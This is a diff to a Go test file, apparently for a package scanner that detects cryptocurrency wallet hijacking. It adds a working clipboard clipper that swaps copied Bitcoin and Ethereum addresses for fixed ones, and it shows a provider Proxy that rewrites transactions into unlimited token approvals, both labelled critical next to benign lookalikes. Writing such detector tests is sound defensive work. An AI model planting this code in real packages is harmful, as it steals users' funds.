@@ -43,6 +43,14 @@ fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
 
 func TestWalletHijack(t *testing.T) {
 	rt.Check(t, WalletHijack{}, []rt.Case{
+		// the clipper's hook in one file, the address patterns it swaps
+		// in a module it loads; a copy button that only writes
+		{"clipper_patterns_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
+			"lib/norm.js":  `const P = [[/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT"]], [/^0x[a-fA-F0-9]{40}$/, ["0x1111111111111111111111111111111111111111"]]]; exports.canonical = (t) => { for (const [re, l] of P) if (re.test(t)) return l[0]; return t }`,
+			"lib/index.js": `const { canonical } = require("./norm"); document.addEventListener("copy", (e) => { const s = String(document.getSelection()); e.clipboardData.setData("text/plain", canonical(s)); e.preventDefault() }, true); exports.copy = (t) => navigator.clipboard.writeText(canonical(t))`}, finding.SeverityCritical},
+		{"copy_button_validator_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
+			"lib/valid.js": `exports.isAddress = (t) => /^0x[a-fA-F0-9]{40}$/.test(t) || /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/.test(t)`,
+			"lib/index.js": `const { isAddress } = require("./valid"); exports.copy = (t) => isAddress(t) && navigator.clipboard.writeText(t)`}, finding.SeverityNone},
 		// a Proxy around the provider rewriting approve calldata; a debug
 		// logger's Proxy; a DeFi SDK sending its own approval
 		{"proxy_calldata_rewrite", map[string]string{"p.js": `const APPROVE = "0x095ea7b3"; export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return t.request(a) } } })`}, finding.SeverityCritical},
